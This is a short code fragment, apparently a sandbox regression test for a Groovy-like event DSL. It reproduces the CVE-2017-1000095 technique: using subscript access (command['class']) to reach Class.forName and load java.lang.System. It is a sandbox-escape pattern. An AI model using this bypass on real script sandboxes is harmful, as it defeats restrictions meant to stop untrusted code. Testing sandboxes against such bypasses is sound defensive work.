// CVE-2017-1000095 (Jenkins: getAt and putAt of any object)
// command['class'] instead of command.class
event X {
    on { 'a' }
    as {
        command['class'].forName('java.lang.System')
    }
}
